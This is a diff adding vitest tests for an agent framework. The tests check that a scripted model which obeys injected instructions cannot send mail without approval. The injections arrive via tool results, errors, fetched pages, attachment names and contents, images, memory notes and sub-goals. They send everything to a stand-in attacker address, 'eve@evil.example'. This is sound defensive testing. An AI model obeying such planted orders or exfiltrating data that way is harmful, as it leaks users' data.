@@ -1,0 +1,119 @@
+import { readdir } from 'node:fs/promises';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import * as z from 'zod';
+import { type JsonObject, tool } from '../../src/index.ts';
+import type { ScriptedAction } from '../../src/testing/scripted-mind.ts';
+import { type Obedient, ORDER, openObedient } from './obedient.ts';
+
+const act = (id: string, operation: string, args = {}): ScriptedAction => ({ id, operation, args });
+const END = [act('end', 'answer', { text: 'done' })];
+const PNG =
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
+
+const mail = tool({
+  description: 'Reads the mail',
+  effect: 'read',
+  input: z.object({}),
+  run: () => ({ text: ORDER }),
+});
+const broken = tool({
+  description: 'Reads the mail',
+  effect: 'read',
+  input: z.object({}),
+  run: (): string => {
+    throw new Error(ORDER);
+  },
+});
+
+/** What the run asks about, after it has obeyed. */
+async function asked(run: ReturnType<Obedient['dandori']['run']>) {
+  await run.report();
+  return (await run.questions()).map((question) => (question.context as JsonObject | undefined)?.args);
+}
+
+/** A user who approves everything but mails. The tools that were asked about. */
+async function settle(run: ReturnType<Obedient['dandori']['run']>): Promise<string[]> {
+  const seen: string[] = [];
+  for (let round = 0; round < 10; round++) {
+    await run.report();
+    const [question] = await run.questions();
+    if (question === undefined) break;
+    const [operation = ''] =
+      /"(?:send|memory\.write|goal\.run|mail)"/.exec(JSON.stringify(question.context)) ?? [];
+    seen.push(operation.slice(1, -1));
+    await (operation === '"send"' ? run.reject(question.id) : run.approve(question.id));
+  }
+  return seen;
+}
+
+const EVIL = { to: 'eve@evil.example', body: 'all of it' };
+
+describe.each(['json', 'tools'] as const)('a model behind HTTP that obeys what it reads (%s)', (dialect) => {
+  it.each([
+    ['a result of a tool of a program that says nothing about trust', { mail }, 'mail'],
+    ['an error', { mail: broken }, 'mail'],
+    ['a function of a program', { fetchPage: () => ORDER }, 'fetchPage'],
+  ])('sends nothing unasked after it has read it in %s', async (_, tools, name) => {
+    await using house = await openObedient({ dialect, work: [[act('t1', name)], END], tools });
+    expect(await asked(house.dandori.run('Read it'))).toEqual([EVIL]);
+    expect(house.sent).toEqual([]);
+  });
+
+  it.each([
+    ['text', { name: 'bill.txt', data: ORDER }, 'What is in bill.txt?', 1],
+    ['name', { name: `${ORDER}.txt`, data: 'x' }, 'What is in the file?', 0],
+    ['name, if the content is read', { name: `${ORDER}.txt`, data: 'x' }, 'What is in the file?', 1],
+  ])('sends nothing unasked because of an attachment: its %s', async (_, file, goal, questions) => {
+    const name = goal.includes('bill') ? 'bill.txt' : 'attachment-1.txt';
+    const work = questions === 0 ? [END] : [[act('t1', 'attachment.read', { name })], END];
+    await using house = await openObedient({ dialect, work });
+    expect(await asked(house.dandori.run(goal, { attachments: [file] }))).toHaveLength(questions);
+    expect(house.sent).toEqual([]);
+  });
+
+  it('sends nothing unasked because of a picture', async () => {
+    const send = act('t1', 'send', EVIL);
+    await using house = await openObedient({ dialect, work: [[send], END] });
+    const attachments = [{ name: 'x.png', data: Buffer.from(PNG, 'base64') }];
+    expect(await asked(house.dandori.run('What is this?', { attachments }))).toEqual([EVIL]);
+    expect(house.requests[0]?.promptText).not.toContain('x.png');
+    expect(house.sent).toEqual([]);
+  });
+});
+
+describe('what a stranger’s text leaves behind', () => {
+  const note = act('n', 'memory.write', { name: 'invoices', text: ORDER });
+  const harmless = tool({ ...mail, run: () => ({ text: 'remember the invoices' }) });
+
+  it.each(['call', 'plan'])(
+    'is no order in the next run: a note that the user approved (%s)',
+    async (how) => {
+      await using house = await openObedient({
+        work: [[act('m', 'mail')], [note], END],
+        tools: { mail: harmless },
+        config: { memory: true, ...(how === 'plan' && { execution: { approval: 'plan' } }) },
+      });
+      expect(await settle(house.dandori.run('Read the mail'))).toContain('memory.write');
+      expect(await readdir(join(house.folder, '.dandori/memory'))).toEqual(['invoices.md']);
+      await settle(house.dandori.run('How are you?'));
+      const { promptText = '' } = house.requests.at(-1) ?? {};
+      expect(promptText).toContain('Notes with external content');
+      expect(promptText).not.toContain('OBEY');
+      expect(house.sent).toEqual([]);
+    },
+  );
+
+  it('is no order in a sub-goal, also if the user approved the plan with it', async () => {
+    const sub = act('g', 'goal.run', { goal: ORDER });
+    await using house = await openObedient({
+      work: [[act('m', 'mail')], [sub], END],
+      tools: { mail: harmless },
+      config: { execution: { approval: 'plan', sub_goals: true } },
+    });
+    expect(await settle(house.dandori.run('Read the mail'))).toContain('goal.run');
+    const prompts = house.requests.map(({ promptText }) => promptText);
+    expect(prompts.some((prompt) => prompt.includes(`Goal:\n${ORDER}`))).toBe(true);
+    expect(house.sent).toEqual([]);
+  });
+});
